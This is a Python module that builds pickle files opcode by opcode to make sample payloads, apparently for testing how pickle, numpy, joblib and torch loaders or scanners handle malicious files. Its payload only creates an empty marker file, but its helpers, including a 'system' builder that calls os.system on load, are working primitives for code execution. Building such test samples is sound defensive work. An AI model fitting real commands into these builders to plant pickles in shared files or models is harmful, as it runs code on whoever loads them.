"""Pickles assembled opcode by opcode, so that they can say what no pickler would."""

from __future__ import annotations

import pickle
import struct
from collections.abc import Callable
from dataclasses import dataclass
from typing import Literal

NONE = pickle.NONE
TRUE = pickle.NEWTRUE
FALSE = pickle.NEWFALSE
EMPTY = pickle.EMPTY_TUPLE

Loader = Literal["pickle", "pure", "gzip", "numpy", "joblib", "torch"]
"""What loads the sample: the C unpickler, the pure-Python one, pickle.load of a gzip file, numpy.load, joblib.load,
torch.load."""


@dataclass(frozen=True, slots=True)
class Sample:
    name: str
    data: bytes
    link: str = ""
    """The advisory, CVE or report that the sample stands for; empty for a class of trick."""
    loader: Loader = "pickle"
    runs: bool = True
    """Whether it fires wherever Python 3.11, numpy and joblib are; others need tkinter, torch, a module
    that some releases lack, or only read something."""


@dataclass(frozen=True, slots=True)
class Payload:
    """Leaves an empty file in the current directory, by name of the sample: proof that it ran."""

    mark: str

    @property
    def shell(self) -> str:
        return f"echo > {self.mark}"

    @property
    def code(self) -> str:
        """A statement, and an expression too."""
        return f"open({self.mark!r}, 'w').close()"


Make = Callable[[Payload], bytes]


def mark(name: str) -> str:
    return f"fired-{name}"


def sample(name: str, make: Make, link: str = "", loader: Loader = "pickle", *, runs: bool = True) -> Sample:
    return Sample(name, make(Payload(mark(name))), link, loader, runs)


def advisory(ghsa: str) -> str:
    return f"https://github.com/advisories/{ghsa}"


def text(value: str) -> bytes:
    raw = value.encode("utf-8", "surrogatepass")
    return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw


def blob(value: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(value)) + value


def number(value: int) -> bytes:
    return pickle.BININT + struct.pack("<i", value)


def name(module: str, qualname: str) -> bytes:
    """GLOBAL, which every protocol knows."""
    return pickle.GLOBAL + f"{module}\n{qualname}\n".encode()


def stacked(module: bytes, qualname: bytes) -> bytes:
    return module + qualname + pickle.STACK_GLOBAL


def tup(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def array(*items: bytes) -> bytes:
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(items) + pickle.APPENDS


def mapping(**items: bytes) -> bytes:
    body = b"".join(text(key) + value for key, value in items.items())
    return pickle.EMPTY_DICT + pickle.MARK + body + pickle.SETITEMS


def call(function: bytes, *args: bytes) -> bytes:
    return function + tup(*args) + pickle.REDUCE


def new(cls: bytes, *args: bytes) -> bytes:
    return cls + tup(*args) + pickle.NEWOBJ


def build(target: bytes, state: bytes) -> bytes:
    return target + state + pickle.BUILD


def on_class(cls: bytes, **attributes: bytes) -> bytes:
    """BUILD with a state for slots: setattr on whatever stands there."""
    return build(cls, tup(NONE, mapping(**attributes)))


def namespace(**attributes: bytes) -> bytes:
    return build(call(name("types", "SimpleNamespace")), mapping(**attributes))


def system(payload: Payload) -> bytes:
    return call(name("os", "system"), text(payload.shell))


def stream(*parts: bytes, protocol: int | None = 4) -> bytes:
    head = b"" if protocol is None else pickle.PROTO + bytes([protocol])
    return head + b"".join(parts) + pickle.STOP
